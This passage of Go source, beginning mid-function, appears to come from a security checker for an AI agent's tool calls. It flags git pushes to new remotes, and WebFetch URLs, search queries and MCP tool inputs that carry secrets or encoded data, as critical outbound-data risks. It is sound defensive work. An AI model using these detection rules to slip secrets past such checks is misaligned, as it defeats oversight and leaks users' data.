			s.hosts = []shell.Word{{Value: "another machine", Known: true}}
			s.rule = kernel.RuleGitNewRemote
		}
		s.domain = kernel.GitRemote
		return s
	case "fetch", "pull", "clone", "ls-remote", "archive":
		var urls []shell.Word
		if u, ok := p.Value("remote"); ok && sub == "archive" {
			urls = append(urls, u)
		}
		if sub != "archive" && len(p.Operands) > 0 {
			urls = append(urls, p.Operands[0])
		}
		s := sent{}
		for _, u := range urls {
			if !u.Known || gitURL(u.Value) {
				s.hosts = append(s.hosts, shell.Word{Value: gitURLHost(u.Value), Known: u.Known})
				s.names = append(s.names, u)
			}
		}
		if len(s.hosts) == 0 {
			return sent{none: true}
		}
		s.domain = kernel.GitRemote
		return s
	}
	return sent{none: true}
}

// gitRedirectKey: configuration that changes where git sends: a remote's URL or push URL, a URL
// rewrite.
func gitRedirectKey(k string) bool {
	return strings.HasPrefix(k, "remote.") && (strings.HasSuffix(k, ".url") || strings.HasSuffix(k, ".pushurl")) ||
		strings.HasPrefix(k, "url.") && (strings.HasSuffix(k, ".insteadof") || strings.HasSuffix(k, ".pushinsteadof"))
}

func remoteOfKey(k string) string {
	k = strings.TrimPrefix(k, "remote.")
	if i := strings.LastIndexByte(k, '.'); i > 0 {
		return k[:i]
	}
	return k
}

// gitRemotePointed remembers git remote add/set-url NAME URL (and rename) for later pushes.
func gitRemotePointed(x *kernel.Command, ops []shell.Word) {
	if len(ops) < 3 {
		return
	}
	switch ops[0].Value {
	case "add", "set-url":
		pointRemote(x.Call, ops[1].Value, ops[len(ops)-1].Value)
	case "rename":
		pointRemote(x.Call, ops[2].Value, "a renamed remote")
	}
}

func pointRemote(r *kernel.Result, name, to string) {
	if r.Remotes == nil {
		r.Remotes = map[string]string{}
	}
	if to == "" {
		to = "another place"
	}
	r.Remotes[name] = to
}

// gitURL: a remote spelled as a URL (scheme://, user@host:path, host:path) rather than a name
// or a local path.
func gitURL(v string) bool {
	if strings.Contains(v, "://") {
		return !strings.HasPrefix(v, "file://")
	}
	return kernel.RemoteHost(v) != "" && !strings.HasPrefix(v, "/") && path.IsAbs("/"+v)
}

func gitURLHost(v string) string {
	if h := kernel.URLHost(v); h != "" {
		return h
	}
	if h := kernel.RemoteHost(v); h != "" {
		return h
	}
	return v
}

// WebSent: a WebFetch URL that carries a secret or encoded data sends it to the site.
func WebSent(r *kernel.Result, raw string) {
	if why := urlCarries(raw); why != "" {
		r.Add(risk.Critical, kernel.Web, kernel.RuleOutboundData, raw, "WebFetch of this URL sends what it holds: "+why+"; local data would leave the machine in the request, so no trust may run it")
	}
}

// WebSearch: a search sends its query to the search engine; a query holding a secret or
// encoded data is a message, not a search.
func WebSearch(c *kernel.Env, r *kernel.Result, ev *claude.Event) {
	var in struct {
		Query kernel.LooseString `json:"query"`
	}
	kernel.Decode(ev.ToolInput, &in)
	q := string(in.Query)
	switch {
	case mask.String(q) != q:
		r.Add(risk.Critical, kernel.Web, kernel.RuleOutboundData, q, "the search query carries a secret-shaped string: it would leave the machine, so no trust may run it")
	case opaque(q, false) != "":
		r.Add(risk.Critical, kernel.Web, kernel.RuleOutboundData, q, "the search query carries "+opaque(q, false)+": local data would leave the machine, so no trust may run it")
	}
	r.Add(risk.Low, kernel.Web, kernel.RuleWebSearch, "", "a search: nothing is changed")
}

// ToolSent: an MCP tool (or an unknown one) may send what it is given anywhere. A
// secret-shaped string in its input, or a URL in it that carries one or encoded data, is
// critical. domain "" is _global. Values are judged one by one.
func ToolSent(r *kernel.Result, tool string, domain domain.Domain, v any) {
	if domain == "" {
		domain = kernel.Global
	}
	budget := 256
	var walk func(v any, depth int) bool
	walk = func(v any, depth int) bool {
		if budget--; budget <= 0 || depth > 8 {
			return false
		}
		switch v := v.(type) {
		case map[string]any:
			for _, e := range v {
				if walk(e, depth+1) {
					return true
				}
			}
		case []any:
			for _, e := range v {
				if walk(e, depth+1) {
					return true
				}
			}
		case string:
			// Each value alone: a key named like a secret (page_token, a cursor) is not a
			// secret, what the value holds may be.
			if len(v) < 65536 && mask.String(v) != v {
				r.AddUnknown(risk.Critical, domain, kernel.RuleOutboundData, tool, tool+" is given a secret-shaped string: what the tool does with it cannot be known (it may send it), so no trust may run it", kernel.Unknown{What: kernel.UnknownValue})
				return true
			}
			if why := DecodedSecret(strings.TrimSpace(v)); why != "" { // urldecode.go
				r.AddUnknown(risk.Critical, domain, kernel.RuleOutboundData, tool, tool+" is given "+why+": what the tool does with it cannot be known (it may send it), so no trust may run it", kernel.Unknown{What: kernel.UnknownValue})
				return true
			}
			if i := strings.Index(v, "://"); i > 0 && len(v) < 8192 {
				for _, f := range strings.Fields(v) {
					if !strings.Contains(f, "://") {
						continue
					}
					if why := urlCarries(f); why != "" {
						r.Add(risk.Critical, domain, kernel.RuleOutboundData, tool, tool+" is given the URL "+kernel.ClipText(f)+" ("+why+"): local data would leave the machine, so no trust may run it")
						return true
					}
				}
			}
		}
		return false
	}
	walk(v, 0)
}
